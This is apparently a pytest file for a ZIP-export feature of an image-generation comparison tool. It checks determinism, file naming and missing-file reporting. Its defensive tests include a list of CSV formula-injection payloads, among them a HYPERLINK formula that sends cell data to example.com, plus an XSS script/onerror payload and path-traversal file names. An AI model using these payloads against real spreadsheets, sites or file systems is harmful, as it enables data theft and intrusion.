"""The ZIP of a comparison: whole, the same each time, and harmless wherever it is opened."""

import csv
import io
import json
import shutil
import subprocess
import zipfile
from dataclasses import replace

import pytest

from playground.images import containers
from playground.judging.votes import VoteLog, load_votes
from playground.provenance.bundle import write_bundle
from playground.provenance.records import read_provenance
from playground.references import prepare_reference
from playground.runlog import load_runs
from playground.schema import Answer, Run, column_info
from tests.judging_rig import (
    NOON,
    a_ballot,
    a_comparison,
    a_pair,
    a_picture,
    a_run,
    failed,
    keep_picture,
    minutes,
)

HOSTILE = [
    '=HYPERLINK("http://example.com/?x="&A1;"click")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
    " \r\n=1+1",
    "<script>window.pwned=1</script><img src=x onerror=alert(1)>",
    'two\nlines, "quoted"\r\nand \\n a backslash',
    "'=1+1",
]


@pytest.fixture
def runs(tmp_path):
    return tuple(
        keep_picture(tmp_path, run, a_picture("JPEG", seed=n))
        for n, run in enumerate(a_comparison(repeats=2))
    )


def zipped(
    tmp_path, runs, votes=(), *, with_records=False
) -> tuple[dict[str, bytes], tuple[str, ...]]:
    out = io.BytesIO()
    wanting = write_bundle(out, runs, votes, data_dir=tmp_path, with_records=with_records)
    with zipfile.ZipFile(out) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}, wanting


def test_it_holds_pictures_rows_request_and_votes(tmp_path, runs):
    log = VoteLog(tmp_path / "votes.csv")
    vote = a_ballot(log, a_pair()).cast(Answer.TIE, note="=1+1", at=NOON)

    files, wanting = zipped(tmp_path, runs, [vote])

    assert wanting == ()
    assert list(files) == [
        "request.json",
        "runs.csv",
        "votes.csv",
        "pictures/1-flux-2-flex-1.jpg",
        "pictures/1-flux-2-flex-2.jpg",
        "pictures/2-flux-2-pro-1.jpg",
        "pictures/2-flux-2-pro-2.jpg",
    ]
    assert files["pictures/2-flux-2-pro-1.jpg"] == (tmp_path / runs[1].file).read_bytes()
    (tmp_path / "out").mkdir()
    for name in ("runs.csv", "votes.csv"):
        (tmp_path / "out" / name).write_bytes(files[name])
    assert load_runs(tmp_path / "out" / "runs.csv")["run_id"].tolist() == [r.run_id for r in runs]
    assert load_votes(tmp_path / "out" / "votes.csv")["note"].tolist() == ["=1+1"]
    assert json.loads(files["request.json"]) == {
        "schema": "flux-playground/comparison/1",
        "comparison_id": "cmp_1",
        "prompt": "A lighthouse, number 1",
        "size": "16:9",
        "resolution": "1K",
        "lanes": ["flux-2-flex", "flux-2-pro"],
        "repeats": 2,
        "references": [],
    }


def test_with_records_each_picture_says_how_it_was_made(tmp_path, runs):
    files, _ = zipped(tmp_path, runs, with_records=True)

    for name, run in (("1-flux-2-flex-2", runs[2]), ("2-flux-2-pro-1", runs[1])):
        data = files[f"pictures/{name}.jpg"]
        assert read_provenance(data).run_id == run.run_id
        assert containers.without_metadata(data) == containers.without_metadata(
            (tmp_path / run.file).read_bytes()
        )


def test_the_same_comparison_gives_the_same_bytes_with_the_times_of_its_runs(tmp_path, runs):
    def once() -> bytes:
        out = io.BytesIO()
        write_bundle(out, runs, (), data_dir=tmp_path, with_records=True)
        return out.getvalue()

    assert once() == once()
    with zipfile.ZipFile(io.BytesIO(once())) as archive:
        times = {entry.date_time for entry in archive.infolist()}
    assert times == {(2026, 11, 22, 12, 1, 8)}  # 12:01:09; a ZIP file counts in steps of 2 s


def test_a_picture_bought_again_gets_a_name_of_its_own_and_a_failure_none(tmp_path, runs):
    again = keep_picture(
        tmp_path,
        replace(runs[0], run_id="run_again", file="pictures/again.png", started_at=minutes(9)),
        a_picture("PNG", seed=8),
    )

    files, wanting = zipped(tmp_path, [failed(runs[0]), runs[1], again])

    assert wanting == ()
    assert [name for name in files if name.startswith("pictures/")] == [
        "pictures/1-flux-2-flex-1-retry2.png",
        "pictures/2-flux-2-pro-1.jpg",
    ]
    assert files["runs.csv"].count(b"\n") == 4


def test_references_are_in_it_as_they_were_sent(tmp_path):
    kept = prepare_reference(a_picture("PNG", seed=3), name="x", folder=tmp_path / "references")
    run = keep_picture(
        tmp_path,
        a_run(
            reference_sha256=f"- {kept.sha256} {'cd' * 32}",
            reference_urls="https://example.com/a.png https://up/1 https://up/2",
        ),
        a_picture(),
    )

    files, wanting = zipped(tmp_path, [run])

    assert files["references/image-2.png"] == kept.path.read_bytes()
    assert wanting == ("Reference 3 is gone.",)
    assert json.loads(files["request.json"])["references"] == [
        {"image": 1, "sha256": None, "url": "https://example.com/a.png"},
        {"image": 2, "sha256": kept.sha256},
        {"image": 3, "sha256": "cd" * 32},
    ]


def test_what_is_wanting_is_said_and_the_rest_is_there(tmp_path, runs):
    (tmp_path / runs[0].file).unlink()
    (tmp_path / runs[1].file).write_bytes(a_picture(seed=99))
    no_picture = keep_picture(tmp_path, runs[2], b"<html>")

    files, wanting = zipped(tmp_path, [*runs[:2], no_picture, runs[3]])

    assert [name for name in files if name.startswith("pictures/")] == [
        "pictures/2-flux-2-pro-2.jpg"
    ]
    assert [
        run.run_id in said for run, said in zip(sorted_by_lane(runs)[:3], wanting, strict=True)
    ] == [True] * 3
    assert "gone" in wanting[0]


def sorted_by_lane(runs) -> list[Run]:
    return sorted(runs, key=lambda run: (run.lane, run.repeat))


def test_no_file_from_outside_gets_in_and_no_name_gets_out(tmp_path):
    folder = tmp_path / "data"
    (tmp_path / "secret.png").write_bytes(a_picture())
    outside = keep_picture(folder.parent, a_run(file="secret.png"), a_picture())
    runs = [
        replace(outside, file="../secret.png"),
        keep_picture_at(folder, a_run(lane=2, model="../../evil\\model:\n" + "x" * 200)),
    ]

    files, wanting = zipped(folder, runs)

    assert len(wanting) == 1
    (name,) = [name for name in files if name.startswith("pictures/")]
    assert name.startswith("pictures/2-evil-model-")
    assert name.endswith("x-1.png")
    assert ".." not in name
    assert len(name) < 90


def keep_picture_at(folder, run: Run) -> Run:
    folder.mkdir()
    return keep_picture(folder, run, a_picture())


@pytest.mark.parametrize("runs", [[], [a_run(1), a_run(2)]])
def test_it_is_of_one_comparison(tmp_path, runs):
    with pytest.raises(ValueError, match="one comparison"):
        zipped(tmp_path, runs)


@pytest.mark.parametrize("prompt", HOSTILE)
def test_no_cell_is_a_formula_and_every_prompt_comes_back(tmp_path, prompt):
    run = keep_picture(tmp_path, a_run(prompt=prompt), a_picture())

    files, _ = zipped(tmp_path, [run])

    assert files["runs.csv"].count(b"\n") == 2
    row = next(csv.DictReader(io.StringIO(files["runs.csv"].decode(), newline="")))
    assert row["prompt"].lstrip()[:1] not in set("=+-@\t\r＝")
    (tmp_path / "out.csv").write_bytes(files["runs.csv"])
    assert load_runs(tmp_path / "out.csv")["prompt"].tolist() == [prompt]
    assert json.loads(files["request.json"])["prompt"] == prompt


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_takes_every_prompt_for_text(tmp_path):
    runs = [
        keep_picture(tmp_path, a_run(repeat=n, prompt=prompt), a_picture())
        for n, prompt in enumerate(HOSTILE, start=1)
    ]
    files, _ = zipped(tmp_path, runs)
    (tmp_path / "runs.csv").write_bytes(files["runs.csv"])

    # Formulas come out as their results; a text comes out as it is.
    subprocess.run(
        [
            "soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
            "--convert-to", "ods", "--outdir", str(tmp_path), str(tmp_path / "runs.csv"),
        ],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip

    with zipfile.ZipFile(tmp_path / "runs.ods") as sheet:
        content = sheet.read("content.xml").decode()
    assert "table:formula" not in content
    assert content.count("<table:table-row") >= len(HOSTILE) + 1
    assert next(iter(column_info(Run))) in content
